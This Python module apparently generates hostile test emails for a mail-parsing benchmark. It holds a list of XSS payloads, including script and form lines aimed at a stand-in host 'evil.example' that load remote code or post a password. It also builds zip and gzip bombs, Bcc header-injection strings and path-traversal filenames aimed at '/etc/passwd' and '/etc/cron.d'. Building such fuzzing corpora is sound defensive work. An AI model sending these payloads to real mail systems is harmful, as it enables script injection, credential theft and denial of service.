"""Mails that mean harm, made by mutation: damaged, huge, deeply nested, bombs, injected headers, hostile HTML."""

from __future__ import annotations

import base64
import gzip
import io
import random
import zipfile
from collections.abc import Callable, Iterator

from bench import generate

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img/src='x'/onerror='alert(1)'>",
    '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="//evil.example/x.swf">',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'; body{behavior:url(x.htc)}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<body onload=alert(1)><p onclick="alert(1)">x</p>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><script>alert(1)</script></xmp><plaintext><img src=x onerror=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<input autofocus onfocus=alert(1)><select onfocus=alert(1) autofocus>',
)  # fmt: skip
# Harmless as they are; a cleaner that is naive makes something of them.
TRAPS = (
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<![CDATA[<script>alert(1)</script>]]><!--><img src=x onerror=alert(1)>-->",
    '<img src="cid:x&quot; onerror=alert(1) y=">',
    '<img src="cid:x\' onerror=alert(1)//">',
    '<p title="&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
)
Rng = random.Random


def damaged(rng: Rng, raw: bytes) -> bytes:
    """Flip, cut, repeat and insert bytes."""
    data = bytearray(raw)
    for _ in range(rng.randint(1, 60)):
        at = rng.randrange(len(data))
        match rng.randrange(4):
            case 0:
                data[at] = rng.randrange(256)
            case 1:
                del data[at : at + rng.randint(1, 80)]
            case 2:
                data[at:at] = data[at : at + rng.randint(1, 200)]
            case _:
                data[at:at] = rng.choice([b"\x00", b"\r", b"\n\n", b"\xff\xfe", b"=?utf-8?b?", b"?=", b"\xed\xa0\x80"])
        if len(data) < 10:
            break
    return bytes(data)


def hostile_html(rng: Rng, raw: bytes) -> bytes:
    """A page made of attacks, some of them broken up by mutation."""
    parts = [rng.choice(SCRIPTS + TRAPS) for _ in range(rng.randint(1, 12))]
    page = f"<html><body>{'<p>hello</p>'.join(parts)}</body></html>"
    if rng.random() < 0.4:
        page = damaged(rng, page.encode()).decode("utf-8", "replace")
    charset, coded = rng.choice(
        [("utf-8", page.encode()), ("utf-16", page.encode("utf-16")), ("utf-7", page.encode("utf-7")),
         ("no-such-charset", page.encode()), ("iso-8859-7", page.encode("iso-8859-7", "replace"))]
    )  # fmt: skip
    body = base64.encodebytes(coded)
    return _head(raw) + (
        b'Content-Type: text/html; charset="%s"\r\nContent-Transfer-Encoding: base64\r\n\r\n' % charset.encode() + body
    )


def nested(rng: Rng, raw: bytes) -> bytes:
    """Parts within parts, or mails within mails, or elements within elements."""
    depth = rng.choice([30, 120, 400, 1_500])
    match rng.randrange(3):
        case 0:
            opening = b"".join(
                b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(depth)
            )
            return _head(raw) + opening + b"Content-Type: text/plain\r\n\r\ndeep\r\n"
        case 1:
            return _head(raw) + b"Content-Type: message/rfc822\r\n\r\n" * depth + b"Subject: inner\r\n\r\ndeep\r\n"
        case _:
            tag = rng.choice(["div", "table><tr><td", "b", "blockquote", "font", "ul><li"])
            return _head(raw) + b"Content-Type: text/html\r\n\r\n" + f"<{tag}>".encode() * depth * 10 + b"deep"


def huge(rng: Rng, raw: bytes) -> bytes:
    """Much of something: parts, headers, addresses, a line, a word, a table."""
    much = rng.choice([2_000, 20_000])
    match rng.randrange(7):
        case 0:
            part = b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n"
            return _head(raw) + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + part * (much // 10)
        case 1:
            return b"".join(b"X-%d: y\r\n" % n for n in range(much)) + raw
        case 2:
            return b"Cc: " + b", ".join(b"a%d@example.org" % n for n in range(much)) + b"\r\n" + raw
        case 3:
            return b"Subject: " + b"=?utf-8?q?=C4=8D?= " * much + b"\r\n" + raw
        case 4:
            return _head(raw) + b"\r\n" + b"a" * much * 100
        case 5:
            return b"References: " + b"".join(b"<%d@x> " % n for n in range(much)) + b"\r\n" + raw
        case _:
            cell = b"<tr><td style='color:red'>x</td></tr>"
            return _head(raw) + b"Content-Type: text/html\r\n\r\n<table>" + cell * (much // 2)


def bomb(rng: Rng, raw: bytes) -> bytes:
    """A small file that would be large, as zip, gzip or in a content encoding."""
    packed = io.BytesIO()
    kind = rng.randrange(2)
    if kind == 0:
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("zeros.html", b"0" * 20_000_000)
    else:
        packed.write(gzip.compress(b"0" * 20_000_000))
    name, media = (b"x.zip", b"application/zip") if kind == 0 else (b"x.html", b"text/html")
    coded = base64.encodebytes(packed.getvalue())
    return _head(raw) + (
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: %s\r\nContent-Encoding: gzip\r\n"
        b'Content-Disposition: attachment; filename="%s"\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n--b--\r\n'
    ) % (media, name, coded)


def injecting(rng: Rng, raw: bytes) -> bytes:
    """Headers that try to become other headers, addresses or paths."""
    evil = rng.choice(
        [
            b"Subject: hello\rBcc: victim@example.org",
            b"Subject: =?utf-8?q?hello=0D=0ABcc=3A_victim=40example.org?=",
            b"From: =?utf-8?q?a=0D=0ABcc=3A_v=40example.org?= <a@example.org>",
            b'From: "a\\"<script>alert(1)</script>" <a@example.org>',
            b"Reply-To: a@example.org\r\n\tBcc: victim@example.org",
            b"From: a@example.org, help@shop.example, <>, @, a@b@c",
            b"From: " + b"(" * 3_000 + b"a@example.org",
            b"Message-ID: <a@b>\x0bX: y",
            b"Message-ID: " + b"<" * 500,
            b"In-Reply-To: <../../etc/passwd> <%00@x>",
            b"Date: Mon, 99 Foo 99999999 99:99:99 +9999",
            b"Content-Type: text/html; charset=\"\r\n x\"; name*0*=utf-8''%0d%0aX; name*1=y",
            b'Content-Disposition: attachment; filename="../../../etc/cron.d/x\r\n.html"',
            b"Auto-Submitted: " + b"x" * 60_000,
            b"To: undisclosed-recipients:;\r\nCc: :;,;:,",
        ]
    )
    return evil + b"\r\n" + (raw if rng.random() < 0.5 else _without(raw, evil.partition(b":")[0]))


def _head(raw: bytes) -> bytes:
    """Return the header of a mail without its MIME fields."""
    head = raw.partition(b"\r\n\r\n")[0]
    lines = head.split(b"\r\n")
    kept: list[bytes] = []
    for line in lines:
        if line[:1] in b" \t" and kept:
            continue
        if not line.lower().startswith((b"content-", b"mime-")):
            kept.append(line)
    return b"\r\n".join(kept) + b"\r\nMIME-Version: 1.0\r\n"


def _without(raw: bytes, name: bytes) -> bytes:
    head, _, body = raw.partition(b"\r\n\r\n")
    kept = [line for line in head.split(b"\r\n") if not line.lower().startswith(name.lower() + b":")]
    return b"\r\n".join(kept) + b"\r\n\r\n" + body


KINDS: dict[str, tuple[Callable[[Rng, bytes], bytes], int]] = {
    "damaged": (damaged, 35),
    "hostile_html": (hostile_html, 40),
    "injecting": (injecting, 12),
    "nested": (nested, 7),
    "huge": (huge, 4),
    "bomb": (bomb, 2),
}


def mails(count: int, *, seed: int) -> Iterator[tuple[str, bytes]]:
    """Yield `count` mails with the kind of harm each means."""
    rng = random.Random(seed)
    names, weights = list(KINDS), [weight for _, weight in KINDS.values()]
    for number, mail in enumerate(generate.mails(count, seed=seed)):
        # Every kind at least once, also in a small run.
        name = names[number] if number < len(names) else rng.choices(names, weights)[0]
        yield name, KINDS[name][0](rng, mail.raw)
